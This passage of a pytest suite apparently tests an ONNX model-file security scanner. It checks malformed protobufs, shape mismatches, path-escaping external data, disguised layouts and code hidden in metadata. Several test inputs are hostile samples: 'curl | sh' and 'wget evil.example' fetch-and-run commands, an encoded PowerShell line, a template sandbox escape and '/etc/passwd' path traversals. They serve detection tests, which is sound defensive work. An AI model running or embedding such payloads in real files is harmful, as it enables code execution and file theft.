    real = Path(__file__).parents[1] / "data" / "onnx_ort" / "mlp-fp16-keep-io.onnx"
    assert scan(real).findings == []
    model = mlp()
    nodes = list(model.graph.node)[::-1]
    del model.graph.node[:]
    model.graph.node.extend(nodes)
    assert scan(write(tmp_path, model)).findings == []


def test_nodes_in_a_cycle_stay_a_checker_failure(tmp_path: Path) -> None:
    model = mlp()
    model.graph.node[0].input[0] = "h2"  # the first MatMul reads what the Add after it writes
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == {"WS-ONNX-016"}
    assert "topologically sorted" in report.findings[0].message


@pytest.mark.parametrize("dims", [[-4, 3], [2**40, 2**40], [2**62, 4]])
@pytest.mark.parametrize("external", [False, True])
def test_bad_shape(tmp_path: Path, dims: list[int], external: bool) -> None:
    def edit(tensor: TensorProto) -> None:
        del tensor.dims[:]
        tensor.dims.extend(dims)

    if external:
        path = external_variant(tmp_path, edit)
    else:
        model = mlp()
        edit(model.graph.initializer[0])
        path = write(tmp_path, model)
    assert rule_ids(scan(path)) == {"WS-ONNX-011"}


def test_bad_sparse_dense_shape(tmp_path: Path) -> None:
    model = sparse_and_ml()
    model.graph.sparse_initializer[0].dims[0] = -3
    assert rule_ids(scan(write(tmp_path, model))) == {"WS-ONNX-011"}


@pytest.mark.parametrize("size", [7, 47, 49, 4096])
def test_raw_data_size_mismatch(tmp_path: Path, size: int) -> None:
    model = mlp()
    model.graph.initializer[0].raw_data = bytes(size)
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == {"WS-ONNX-010"}
    assert report.findings[0].evidence["actual"] == size


def test_string_tensor_with_raw_data(tmp_path: Path) -> None:
    model = mlp()
    tensor = helper.make_tensor("words", T.STRING, [2], [b"a", b"b"])
    tensor.ClearField("string_data")
    tensor.raw_data = b"ab"
    model.graph.initializer.append(tensor)
    assert rule_ids(scan(write(tmp_path, model))) == {"WS-ONNX-010"}


def test_typed_data_count_mismatch_is_left_to_the_checker(tmp_path: Path) -> None:
    model = mlp()
    tensor = TensorProto(name="f", data_type=T.FLOAT, dims=[3], float_data=[1.0, 2.0])
    model.graph.initializer.append(tensor)
    assert rule_ids(scan(write(tmp_path, model))) == {"WS-ONNX-016"}


@pytest.mark.parametrize(
    ("field", "text"),
    [
        ("metadata", "import os; os.system('curl http://x | sh')"),
        ("metadata", "__import__('subprocess').run(['id'])"),
        ("metadata", "exec(base64.b64decode(blob))"),
        ("model_doc", "run: wget http://evil.example/x -O /tmp/x"),
        ("node_doc", "/bin/sh -c id"),
        ("function_doc", "eval(input())"),
        ("graph_metadata", "powershell -enc AAAA"),
    ],
)
def test_code_in_metadata(tmp_path: Path, field: str, text: str) -> None:
    model = with_functions()
    if field == "metadata":
        helper.set_model_props(model, {"postprocess": text})
    elif field == "model_doc":
        model.doc_string = text
    elif field == "node_doc":
        model.graph.node[0].doc_string = text
    elif field == "function_doc":
        model.functions[0].doc_string = text
    else:
        model.graph.metadata_props.add(key="note", value=text)
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == {"WS-ONNX-017"}


def test_oversized_metadata(tmp_path: Path) -> None:
    model = mlp()
    helper.set_model_props(model, {"blob": "A" * (onnx_checks.MAX_TEXT_CHARS + 1)})
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == {"WS-ONNX-018"}
    assert report.findings[0].evidence["field"] == "model.metadata_props[blob]"


def test_template_in_metadata_goes_to_the_template_checker(tmp_path: Path) -> None:
    model = mlp()
    helper.set_model_props(model, {"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"})
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == {"WS-TPL-001"}
    assert {f.evidence["field"] for f in report.findings} == {"model.metadata_props[chat_template]"}
    assert report.findings[0].severity == Severity.CRITICAL


def test_template_in_a_doc_string(tmp_path: Path) -> None:
    model = mlp()
    model.graph.node[0].doc_string = "{% include '/etc/passwd' %}"
    assert rule_ids(scan(write(tmp_path, model))) == {"WS-TPL-006"}


@pytest.mark.parametrize("doc", ["{{" * 400_000, "{%" * 400_000, "import" + " " * 900_000, "{" * 900_000])
def test_long_hostile_text_is_searched_in_linear_time(tmp_path: Path, doc: str) -> None:
    model = mlp()
    model.doc_string = doc
    started = time.monotonic()
    found = observe(model.SerializeToString())
    assert time.monotonic() - started < 5
    assert [o.kind for o in found] == ["fact.onnx"]


def test_invalid_utf8_in_strings_is_read_not_crashed_on(tmp_path: Path) -> None:
    blob = mlp().SerializeToString().replace(b"wscan-tests", b"wscan\xff\xfetest")
    found = observe(blob)
    assert [o.kind for o in found] == ["fact.onnx"]
    assert found[0].attrs["producer"] == "wscan\\xff\\xfetest 1.0"


@pytest.mark.parametrize("cut", [4, 40, 100, -10])
def test_truncated(tmp_path: Path, cut: int) -> None:
    blob = mlp().SerializeToString()
    report = scan(write(tmp_path, blob[:cut]))
    assert rule_ids(report) == {"WS-ONNX-001"}
    assert report.files[0].status == "failed"


def test_nested_deeper_than_protobuf_allows(tmp_path: Path) -> None:
    """40 levels of If bodies are 120 nested messages: protobuf refuses past 100, and so does every loader."""
    graph = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "leaf", [], []).SerializeToString()
    for _ in range(40):  # written by hand: protobuf will not serialise what it cannot read back
        attribute = _field(1, b"then_branch") + b"\xa0\x01\x05" + _field(6, graph)  # name, type GRAPH, g
        node = _field(1, b"c") + _field(2, b"y") + _field(4, b"If") + _field(5, attribute)
        graph = _field(1, node) + _field(2, b"g")
    blob = b"\x08\x07" + _field(7, graph) + _field(8, b"\x10\x11")
    report = scan(write(tmp_path, blob))
    assert rule_ids(report) == {"WS-ONNX-001"}
    assert "depth" in report.findings[0].message.lower()


def _field(number: int, data: bytes) -> bytes:
    """A length-delimited protobuf field (field numbers below 16: one tag byte)."""
    out, n = bytearray([number << 3 | 2]), len(data)
    while True:
        out.append((n & 0x7F) | (0x80 if n >> 7 else 0))
        n >>= 7
        if not n:
            return bytes(out) + data


def test_size_limit(tmp_path: Path) -> None:
    report = scan(write(tmp_path, mlp()), Config(limits=Limits(max_member_bytes=100)))
    assert rule_ids(report) == {"WS-ONNX-002"}
    assert report.files[0].status == "failed"


def test_count_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(onnx_checks, "MAX_ENTRIES", 5)
    report = scan(write(tmp_path, mlp()))
    assert rule_ids(report) == {"WS-ONNX-003"}
    assert report.files[0].status == "failed"


@pytest.mark.parametrize(("domains", "per_domain", "expected"), [(1050, 1, 1000), (2, 150, 200)])
def test_observations_per_kind_are_capped(domains: int, per_domain: int, expected: int) -> None:
    """Custom-domain operators: a hundred of each domain, a thousand in all."""
    model = mlp()
    for index in range(domains * per_domain):
        model.graph.node.append(helper.make_node(f"Weird{index}", ["y"], [f"z{index}"], domain=f"d{index % domains}"))
    found = [o for o in observe(model.SerializeToString()) if o.kind == "onnx.custom_domain"]
    assert len(found) == expected


# --- every kind has a rule and a fixture --------------------------------------------------------------


def _hostile_cases(tmp_path: Path) -> dict[str, tuple[Path, Config | None]]:
    """One model per observation kind, for the rule-table checks."""
    big = mlp()
    helper.set_model_props(big, {"blob": "A" * (onnx_checks.MAX_TEXT_CHARS + 1)})
    unknown, custom, newer, bad_order, code, shape, raw = mlp(), mlp(), mlp(), mlp(), mlp(), mlp(), mlp()
    unknown.graph.node[2].op_type = "Relux"
    custom.graph.node[2].domain = "evil.custom"
    newer.opset_import[0].version = 99
    bad_order.graph.node[1].input[0] = "undefined"
    code.doc_string = "import subprocess"
    del shape.graph.initializer[0].dims[:]
    shape.graph.initializer[0].dims.extend([-1])
    raw.graph.initializer[0].raw_data = b"1"
    zipped = tmp_path / "z.zip"
    with zipfile.ZipFile(zipped, "w") as zf:
        zf.write(save_external(tmp_path / "zipped"), "model.onnx")
    (tmp_path / "hl").mkdir()
    hard = save_external(tmp_path / "hl")
    os.link(tmp_path / "hl" / "weights.bin", tmp_path / "hl.bin")
    return {
        "onnx.malformed": (write(tmp_path / "malformed", mlp().SerializeToString()[:50]), None),
        "onnx.size_limit": (write(tmp_path / "size", mlp()), Config(limits=Limits(max_member_bytes=10))),
        "onnx.external_data_escape": (external_variant(tmp_path / "esc", set_entry("location", "/etc/passwd")), None),
        "onnx.external_data_unresolvable": (zipped, None),
        "onnx.external_data_missing": (external_variant(tmp_path / "miss", set_entry("location", "nope")), None),
        "onnx.external_data_shared": (hard, None),
        "onnx.external_data_out_of_bounds": (external_variant(tmp_path / "oob", set_entry("offset", "999")), None),
        "onnx.external_data_bad_entry": (external_variant(tmp_path / "bad", _no_location), None),
        "onnx.size_mismatch": (write(tmp_path / "raw", raw), None),
        "onnx.bad_shape": (write(tmp_path / "shape", shape), None),
        "onnx.custom_domain": (write(tmp_path / "custom", custom), None),
        "onnx.unknown_op": (write(tmp_path / "unknown", unknown), None),
        "onnx.opset_too_new": (write(tmp_path / "newer", newer), None),
        "onnx.checker_failed": (write(tmp_path / "order", bad_order), None),
        "onnx.code_in_metadata": (write(tmp_path / "code", code), None),
        "onnx.oversized_metadata": (write(tmp_path / "big", big), None),
        "onnx.disguised": (write(tmp_path / "disguised", b"\xa0\x06\x01" + mlp().SerializeToString()), None),
    }


def _onnx_rules() -> dict[str, list[dict[str, Any]]]:
    pack = load_pack(builtin_rules_dir() / "onnx.yaml")
    rules: dict[str, list[dict[str, Any]]] = {}
    for rule in pack["rules"]:
        rules.setdefault(rule["match"]["kind"], []).append(rule)
    return rules


def test_every_kind_has_a_rule_and_a_fixture(tmp_path: Path) -> None:
    folder = Path(onnx_checks.__file__).parent
    sources = [(folder / name).read_text(encoding="utf-8") for name in ("onnx_checks.py", "onnx_model.py")]
    emitted = {kind for source in sources for kind in re.findall(r'"(onnx\.[a-z_]+)"', source)}
    cases = _hostile_cases(tmp_path)
    assert emitted == set(_onnx_rules()) == set(cases) | {"onnx.count_limit"}


def test_each_fixture_trips_its_kind_and_the_message_has_every_fact(tmp_path: Path) -> None:
    engine_for: dict[int, Engine] = {}
    for kind, (path, config) in _hostile_cases(tmp_path).items():
        engine = default_engine() if config is None else engine_for.setdefault(id(config), Engine(config))
        report = engine.scan([path])
        rules = _onnx_rules()[kind]
        hits = [f for f in report.findings if f.rule_id in {r["id"] for r in rules}]
        assert hits, kind
        for finding in hits:
            rule = next(r for r in rules if r["id"] == finding.rule_id)
            placeholders = set(re.findall(r"\{([a-z_][a-z0-9_]*)\}", rule["message"]))
            assert placeholders <= set(finding.evidence) | {"path", "member", "offset"}, rule["id"]
            assert "?" not in finding.message, finding.message


# --- external data is located, never read ------------------------------------------------------------


def _rchar() -> int:
    for line in Path("/proc/self/io").read_text().splitlines():
        if line.startswith("rchar:"):
            return int(line.split()[1])
    raise AssertionError("no rchar")


@pytest.mark.skipif(not Path("/proc/self/io").exists(), reason="needs /proc/self/io")
def test_300_mb_of_external_weights_are_not_read(tmp_path: Path) -> None:
    elements = 75_000_000  # 300 MB of F32
    weights = numpy_helper.from_array(np.zeros(4, np.float32), "W")
    del weights.dims[:]
    weights.dims.append(elements)
    _external(weights, "weights.bin")
    graph = helper.make_graph([helper.make_node("Identity", ["W"], ["y"])], "big", [], [value("y", shape=(elements,))],
                              [weights])  # fmt: skip
    folder = tmp_path / "big"
    path = write(folder, helper.make_model(graph, opset_imports=opsets()))
    with (folder / "weights.bin").open("wb") as handle:
        handle.truncate(4 * elements)
    engine = default_engine()
    engine.scan([path])  # warm: imports and lazy loads are not the scan's reads
    before = _rchar()
    report = engine.scan([folder])
    spent = _rchar() - before
    assert spent < 10 * 1024 * 1024, spent
    assert report.findings == []  # weights.bin is claimed by the model as its external data
    assert report.models[0].parameters == elements


def test_checker_never_sees_external_paths(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The checker would stat locations relative to the working directory: it gets the tensors emptied."""
    path = save_external(tmp_path / "m")
    seen = tmp_path / "seen.onnx"  # the scan runs in a forked worker: what the checker got comes back as a file
    real = onnx_checks.check_model

    def spy(model: ModelProto) -> None:
        seen.write_bytes(model.SerializeToString())
        real(model)

    monkeypatch.setattr(onnx_checks, "check_model", spy)
    monkeypatch.chdir(tmp_path)
    assert rule_ids(scan(path)) == set()
    checked = ModelProto.FromString(seen.read_bytes())
    assert checked.graph.initializer and not any(t.external_data for t in checked.graph.initializer)


# --- damaged models never raise, never hang ----------------------------------------------------------


@cache
def _samples() -> tuple[bytes, ...]:
    return tuple(build().SerializeToString() for build in BENIGN.values())


@pytest.fixture(scope="module")
def fuzz_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("onnx_fuzz")
    save_external(folder / "ext", control_flow())
    return folder


def _mutate(data: st.DataObject, sample: bytes) -> bytes:
    """Bit flips, and a truncation one time in three (most cuts end in a parse error, which is checked less)."""
    blob = bytearray(sample)
    for _ in range(data.draw(st.integers(0, 8))):
        position = data.draw(st.integers(0, len(blob) - 1))
        blob[position] ^= 1 << data.draw(st.integers(0, 7))
    cut = data.draw(st.one_of(st.just(len(blob)), st.just(len(blob)), st.integers(0, len(blob))))
    return bytes(blob[:cut])


@settings(max_examples=FUZZ_EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_mutations_never_raise(fuzz_dir: Path, data: st.DataObject) -> None:
    external = (fuzz_dir / "ext" / "model.onnx").read_bytes()
    samples = (*_samples(), external)
    index = data.draw(st.integers(0, len(samples) - 1))
    mutated = _mutate(data, samples[index])
    found = observe(mutated, fuzz_dir / "ext" / "model.onnx" if index == len(samples) - 1 else None)
    assert not any(o.kind == "scan.error" for o in found)  # the scanner itself, not the engine's safety net


@settings(max_examples=max(100, FUZZ_EXAMPLES // 3), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_engine_always_returns_scanned_or_failed(fuzz_dir: Path, data: st.DataObject) -> None:
    samples = _samples()
    mutated = _mutate(data, samples[data.draw(st.integers(0, len(samples) - 1))])
    path = write(fuzz_dir / "engine", mutated, "m.onnx")
    report = default_engine().scan([path])
    if OnnxScanner().accepts(_head(mutated)):
        assert report.files[0].status in {"scanned", "failed"}
        assert not any(f.rule_id == "WS-FILE-001" for f in report.findings)  # no scan.error from a crash
    elif "onnx" in report.files[0].formats:  # still a model to protobuf: taken by the lenient sniff, and said so
        assert "WS-ONNX-019" in rule_ids(report)
        assert not any(f.rule_id == "WS-FILE-001" for f in report.findings)
    # otherwise damaged past recognition: another format, or reported as unknown


# --- weights are never read (onnx_slim) ---------------------------------------------------------------------


def test_slim_table_matches_onnx() -> None:
    kinds = {onnx_slim.MODEL: ModelProto, onnx_slim.GRAPH: onnx.GraphProto, onnx_slim.NODE: onnx.NodeProto,
             onnx_slim.ATTRIBUTE: onnx.AttributeProto, onnx_slim.FUNCTION: onnx.FunctionProto,
             onnx_slim.TRAINING: onnx.TrainingInfoProto, onnx_slim.SPARSE: onnx.SparseTensorProto,
             onnx_slim.TENSOR: TensorProto, onnx_slim.SPARSE_PART: TensorProto}  # fmt: skip
    for kind, fields in onnx_slim.NESTED.items():
        descriptor = kinds[kind].DESCRIPTOR
        for number, inner in fields.items():
            assert descriptor.fields_by_number[number].message_type is kinds[inner].DESCRIPTOR
        # Every message field that can hold a tensor, graph or node on the way down is in the table.
        carriers = {k.DESCRIPTOR for k in kinds.values()}
        missing = [f.name for f in descriptor.fields if f.message_type in carriers and f.number not in fields]
        assert missing == [], (descriptor.name, missing)
    assert TensorProto.DESCRIPTOR.fields_by_number[onnx_slim.RAW_DATA].name == "raw_data"
    assert onnx_slim.STRIPPED_FIELD not in TensorProto.DESCRIPTOR.fields_by_number


def _big_model(floats: int, raw_extra: int = 0) -> ModelProto:
    weights = numpy_helper.from_array(np.arange(floats, dtype=np.float32), "w")
    weights.raw_data += b"\x00" * raw_extra
    node = helper.make_node("Add", ["x", "w"], ["y"])
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [floats])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [floats])], [weights])  # fmt: skip
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])


def test_initializer_bytes_are_skipped_not_read(tmp_path: Path) -> None:
    path = write(tmp_path, _big_model(4_000_000))  # 16 MB of weights
    tight = Config(limits=Limits(max_bytes_read=2_000_000))
    report = scan(path, tight)
    assert rule_ids(report) == set() and report.files[0].status == "scanned"
    with path.open("rb") as raw:
        slim = onnx_slim.slim_model(raw, path.stat().st_size, lambda: None)
    assert len(slim) < 4096
    parsed = ModelProto()
    parsed.ParseFromString(slim)
    assert onnx_slim.stripped_length(parsed.graph.initializer[0]) == 16_000_000


def test_size_mismatch_of_a_skipped_initializer_is_still_found(tmp_path: Path) -> None:
    report = scan(write(tmp_path, _big_model(100_000, raw_extra=8)))
    assert rule_ids(report) == {"WS-ONNX-010"}
    assert report.findings[0].evidence["actual"] == 400_008


def test_a_file_cannot_forge_the_skipped_length(tmp_path: Path) -> None:
    # The forged field says 40 bytes for 40 floats; the real raw_data is 4 bytes: the mismatch must stand.
    model = _big_model(10)
    model.graph.initializer[0].raw_data = b"\x00" * 4
    forged = onnx_slim._varint(onnx_slim.STRIPPED_FIELD << 3) + onnx_slim._varint(40)
    model.graph.initializer[0].ParseFromString(model.graph.initializer[0].SerializeToString() + forged)
    assert rule_ids(scan(write(tmp_path, model))) == {"WS-ONNX-010"}


_TYPED = [name for _, (name, _, _) in sorted(onnx_slim.TYPED_DATA.items())]


def _typed_model(data_type: int, dims: list[int], field: str, count: int, value: int = 3) -> ModelProto:
    """mlp() with one more initializer whose values sit in a typed field (what helper.make_tensor writes from a
    list), `count` of them."""
    model = mlp()
    tensor = TensorProto(name="typed", data_type=data_type, dims=dims)
    getattr(tensor, field).extend([b"abc"] * count if field == "string_data" else [value] * count)
    model.graph.initializer.append(tensor)
    return model


def _checker_accepts(model: ModelProto) -> bool:
    try:
        onnx.checker.check_model(model)
    except onnx.checker.ValidationError:
        return False
    return True


def test_large_typed_data_is_counted_not_kept(tmp_path: Path) -> None:
    """100 MB of float_data used to be held four times (file bytes, parsed copy, checker's copy and its parse)."""
    path = write(tmp_path, _typed_model(T.FLOAT, [2_000_000], "float_data", 2_000_000))
    with path.open("rb") as raw:
        slim = onnx_slim.slim_model(raw, path.stat().st_size, lambda: None)
    assert len(slim) < 4096
    parsed = ModelProto()
    parsed.ParseFromString(slim)
    typed = next(t for t in parsed.graph.initializer if t.name == "typed")
    assert len(typed.float_data) == 0 and onnx_slim.stripped_counts(typed) == {"float_data": (2_000_000, False)}
    report = scan(path, Config(limits=Limits(max_bytes_read=2_000_000)))  # packed floats are skipped, not read
    assert rule_ids(report) == set() and report.files[0].status == "scanned"


@pytest.mark.parametrize(
    ("field", "values", "expected"),
    [
        ("int64_data", [1, 300, 2**40, -1], 4),  # varints of 1, 2, 6 and 10 bytes
        ("uint64_data", [0, 2**64 - 1], 2),
        ("int32_data", [-5, 7], 2),
        ("double_data", [1.5, -2.0], 2),
        ("string_data", [b"", b"x" * 5000], 2),
    ],
)
def test_stripped_counts_are_exact(tmp_path: Path, field: str, values: list[Any], expected: int) -> None:
    tensor = TensorProto(name="t", data_type=T.INT64, dims=[1])
    getattr(tensor, field).extend(values * 2000)
    model = mlp()
    model.graph.initializer.append(tensor)
    path = write(tmp_path, model)
    with path.open("rb") as raw:
        parsed = ModelProto.FromString(onnx_slim.slim_model(raw, path.stat().st_size, lambda: None))
    assert onnx_slim.stripped_counts(parsed.graph.initializer[-1])[field].values == expected * 2000


@pytest.mark.parametrize(
    ("tail", "reason"),
    [
        (b"\x80" * 11 + b"\x01", "more than ten bytes"),
        (b"\x81", "ends inside a varint"),
    ],
)
def test_broken_packed_varints_are_malformed(tmp_path: Path, tail: bytes, reason: str) -> None:
    """protobuf refuses these too; the count must not paper over them."""
    body = b"\x01" * 6000 + tail
    tensor = TensorProto(name="t", data_type=T.INT64, dims=[6000]).SerializeToString()
    tensor += b"\x3a" + onnx_slim._varint(len(body)) + body  # int64_data (7), packed
    model = mlp()
    graph = model.graph.SerializeToString() + b"\x2a" + onnx_slim._varint(len(tensor)) + tensor  # an initializer
    model.ClearField("graph")
    data = model.SerializeToString() + b"\x3a" + onnx_slim._varint(len(graph)) + graph  # the graph (7)
    with pytest.raises(DecodeError):
        ModelProto.FromString(data)
    report = scan(write(tmp_path, data))
    assert [(f.rule_id, reason in f.message) for f in report.findings] == [("WS-ONNX-001", True)]


def test_a_file_cannot_forge_a_stripped_count(tmp_path: Path) -> None:
    model = _typed_model(T.FLOAT, [10], "float_data", 3)  # too few: the checker refuses it
    forged = onnx_slim._varint(onnx_slim.STRIPPED_COUNT_FIELD << 3 | 2) + b"\x02\x04\x0a"  # "10 float_data values"
    tensor = model.graph.initializer[-1]
    tensor.ParseFromString(tensor.SerializeToString() + forged)
    assert rule_ids(scan(write(tmp_path, model))) == {"WS-ONNX-016"}


_DATA_TYPES = [t for t in TensorProto.DataType.values() if t != T.UNDEFINED] + [99]


@settings(max_examples=120, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(
    data_type=st.sampled_from(_DATA_TYPES),
    field=st.sampled_from(_TYPED),
    elements=st.sampled_from([0, 1, 31, 6000, 40_000, 70_000]),  # 6,000 values and up are left out (> 4 KiB)
    shift=st.sampled_from([-2, -1, 0, 1, 2]),
    factor=st.sampled_from([1, 2, 4 / 32, 2 / 32]),
    second_field=st.booleans(),
    value=st.sampled_from([1, 63, 64, 300, -1]),
)
def test_stripped_typed_data_is_judged_as_onnx_checker_judges_it(
    tmp_path: Path, data_type: int, field: str, elements: int, shift: int, factor: float, second_field: bool,
    value: int,
) -> None:
    """Differential: for typed data large enough to be left out, a finding exactly when onnx.checker refuses the
    whole model (WS-ONNX-016 with its reason, or WS-ONNX-010 for raw bytes beside the values); around the
    counts each data type needs, in the right field and the wrong one."""
    count = max(0, int(-(-elements * factor // 1)) + shift)
    if field in ("float_data", "double_data", "string_data") or (field == "uint64_data" and value < 0):
        value = 1
    model = _typed_model(data_type, [elements], field, count, value=value)
    if second_field and count:  # two value fields (raw bytes alone are WS-ONNX-010's, stricter than the checker)
        model.graph.initializer[-1].raw_data = b"\x00" * 8
    report = scan(write(tmp_path, model))
    assert {f.rule_id for f in report.findings} <= {"WS-ONNX-016", "WS-ONNX-010"}
    assert bool(report.findings) != _checker_accepts(model), [f.message for f in report.findings]


REVIEW = Path(__file__).resolve().parents[1] / "data" / "onnx_review"


@pytest.mark.parametrize(
    "name",
    [
        "float6.onnx",  # 5,000 FLOAT6 values, one of them 200: the checker holds FLOAT6 to six bits
        "empty-packed.onnx",  # 2,000+ empty packed float_data occurrences on a 0-element tensor: no values
        "empty-packed-2.onnx",  # the same beside real int64_data
    ],
)
def test_review_cases_are_judged_as_the_checker_judges_them(name: str) -> None:
    model = onnx.load(str(REVIEW / name))
    report = scan(REVIEW / name)
    assert bool(report.findings) != _checker_accepts(model), [f.message for f in report.findings]


@pytest.mark.parametrize(("value", "flagged"), [(63, False), (64, True), (-1, True)])
def test_six_bit_values_are_checked_when_left_out(tmp_path: Path, value: int, flagged: bool) -> None:
    model = _typed_model(T.FLOAT6E2M3, [6000], "int32_data", 6000, value=value)
    assert rule_ids(scan(write(tmp_path, model))) == ({"WS-ONNX-016"} if flagged else set())
    assert _checker_accepts(model) != flagged


# --- onnx loaded in part, in scan workers ----------------------------------------------------------------

_WORKER_LOAD = """
import json, sys
from pathlib import Path
import wscan.parallel
wscan.parallel.IN_WORKER = True
from wscan.scanners import onnx_checks, onnx_lib
loaded = {"numpy": "numpy" in sys.modules, "onnx": "onnx" in sys.modules}
found = {}
for path in sorted(Path(sys.argv[1]).glob("*.onnx")):
    inspection = onnx_checks.inspect_model(path.read_bytes(), path.parent, lambda: None)
    found[path.name] = sorted([p.kind, sorted(map(str, p.attrs.items()))] for p in inspection.problems)
import onnx, onnx.checker, onnx.helper  # onnx's own code still works after it, with the same classes
same = onnx.ModelProto is onnx_lib.ModelProto and sys.modules["onnx.onnx_cpp2py_export.defs"] is onnx_lib.defs
onnx.checker.check_model(onnx.helper.make_model(onnx.helper.make_graph([], "g", [], [])))
print(json.dumps({"loaded": loaded, "found": found, "same": same}))
"""


def test_worker_loads_onnx_without_its_init_and_finds_the_same(tmp_path: Path) -> None:
    """In a scan worker the checks load onnx's protobuf classes and C++ extension alone (no NumPy: 0.25 s
    saved); every corpus model gets the same problems as with the whole package, and `import onnx` works after."""
    import json
    import subprocess
    import sys

    folder = tmp_path / "models"
    folder.mkdir()
    for path in sorted((CORPUS / "hostile").glob("*.onnx")) + sorted((CORPUS / "benign").glob("*.onnx")):
        (folder / path.name).write_bytes(path.read_bytes())
    assert len(list(folder.iterdir())) >= 5
    out = subprocess.run([sys.executable, "-c", _WORKER_LOAD, str(folder)], capture_output=True, text=True, check=True)
    result = json.loads(out.stdout)
    assert result["loaded"] == {"numpy": False, "onnx": False}
    assert result["same"] is True
    for path in sorted(folder.iterdir()):
        inspection = onnx_checks.inspect_model(path.read_bytes(), folder, lambda: None)
        expected = sorted([p.kind, sorted(map(str, p.attrs.items()))] for p in inspection.problems)
        assert json.loads(json.dumps(expected)) == result["found"][path.name], path.name
    assert any(result["found"].values())  # the hostile models do trip checks


# --- models laid out to slip past the sniff (review 22) ------------------------------------------------------


def _tag(number: int, wire: int) -> bytes:
    return onnx_slim._varint(number << 3 | wire)


def _wire_field(number: int, wire: int, payload: bytes) -> bytes:
    return _tag(number, wire) + (onnx_slim._varint(len(payload)) + payload if wire == 2 else payload)


def _graph_first(blob: bytes) -> bytes:
    model = ModelProto.FromString(blob)
    model.graph.initializer.append(numpy_helper.from_array(np.full(20_000, 0.5, np.float32), "big"))
    graph = model.graph.SerializeToString()
    model.ClearField("graph")
    return _wire_field(7, 2, graph) + model.SerializeToString()


DISGUISES: dict[str, Callable[[bytes], bytes]] = {
    "an unknown field first": lambda blob: _wire_field(100, 0, b"\x01") + blob,
    "ir_version's number, length-delimited, first": lambda blob: _wire_field(1, 2, b"zz") + blob,
    "a group first": lambda blob: _tag(50, 3) + _wire_field(1, 0, b"\x07") + _tag(50, 4) + blob,
    "a 70 kB doc string before ir_version": lambda blob: _wire_field(6, 2, b"x" * 70_000) + blob,
    "a graph over 64 KiB before ir_version": _graph_first,
}


@pytest.mark.parametrize("disguise", DISGUISES)
def test_a_model_laid_out_to_slip_past_the_sniff_is_still_checked(tmp_path: Path, disguise: str) -> None:
    """onnx and onnxruntime read all of these as the model (protobuf skips unknown and mistyped fields, and takes
    fields in any order); the strict sniff does not, so a lenient one, tried when no format took the file, does."""
    path = external_variant(tmp_path, set_entry("location", "../../secret.bin"))
    blob = DISGUISES[disguise](path.read_bytes())
    path.write_bytes(blob)
    assert ModelProto.FromString(blob).graph.initializer[0].external_data[0].value == "../../secret.bin"
    assert not looks_like_onnx(blob[:65536], len(blob))
    report = scan(path)
    assert rule_ids(report) >= {"WS-ONNX-019", "WS-ONNX-004"}
    assert "onnx" in report.files[0].formats


@pytest.mark.parametrize(
    "blob",
    [
        b"\x08\x01\x12\x07\x0a\x05\x12\x03tag" + bytes(70_000),  # a TensorFlow SavedModel's start
        b"\x08\x04\x12\x02\x0a\x00" + _wire_field(200, 2, b"\x0a" * 80_000),  # CoreML: specification 4, a pipeline
        # a SentencePiece model: pieces (text, score), then the trainer spec
        _wire_field(1, 2, b"\x0a\x03abc\x15\x00\x00\x80\x3f") * 5000 + _wire_field(2, 2, b"\x10\x01"),
        numpy_helper.from_array(np.ones(30_000, np.float32), "t").SerializeToString(),  # a TensorProto .pb
    ],
)
def test_other_protobuf_files_are_not_taken_for_disguised_models(tmp_path: Path, blob: bytes) -> None:
    report = scan_bytes(tmp_path, blob, "model.bin")
    assert "onnx" not in report.files[0].formats
    # the SentencePiece stand-in is read as one, and refused: its 5,000 pieces are the same piece
    assert rule_ids(report) <= {"WS-FILE-006", "WS-SPM-002"}


def _ep_context_model(folder: Path, location: str, embed_mode: int = 0) -> Path:
    node = helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", embed_mode=embed_mode,
                            ep_cache_context=location, source="QNN", main_context=1)  # fmt: skip
    graph = helper.make_graph([node], "g", [value("x")], [value("y")])
    model = helper.make_model(graph, opset_imports=[*opsets(), helper.make_opsetid("com.microsoft", 1)])
    folder.mkdir(parents=True, exist_ok=True)
    return write(folder, model)


@pytest.mark.parametrize(("location", "embed_mode", "expected"), [
    ("../../secret.bin", 0, True), ("/etc/passwd", 0, True), ("ctx.bin", 0, False), ("../../secret.bin", 1, False),
])  # fmt: skip
def test_an_ep_context_file_is_held_to_the_external_data_rules(
    tmp_path: Path, location: str, embed_mode: int, expected: bool
) -> None:
    """onnxruntime's QNN, OpenVINO and TensorRT providers open `ep_cache_context` relative to the model when
    embed_mode is 0 (with 1 it holds the context bytes themselves)."""
    path = _ep_context_model(tmp_path / "m", location, embed_mode)
    (path.parent / "ctx.bin").write_bytes(b"\0" * 64)
    report = scan(path.parent)
    assert ("WS-ONNX-004" in rule_ids(report)) == expected
    if location == "ctx.bin":
        ctx = next(f for f in report.files if f.path.endswith("ctx.bin"))
        assert ctx.formats == ("onnx-external-data",)


def test_tensorflow_fingerprints_are_not_taken_for_disguised_models(tmp_path: Path) -> None:
    """A SavedModel's fingerprint.pb is a protobuf with a field 7 (its uuid, a string where ModelProto has its
    graph): review 26 found every one TensorFlow 2.21 writes failed as a broken disguised ONNX model."""
    saved_model = Path(__file__).parents[1] / "data" / "tf_keras" / "reviewed" / "readfile-savedmodel"
    fingerprint = saved_model / "fingerprint.pb"
    report = scan_bytes(tmp_path, fingerprint.read_bytes(), "fingerprint.pb")
    assert "onnx" not in report.files[0].formats
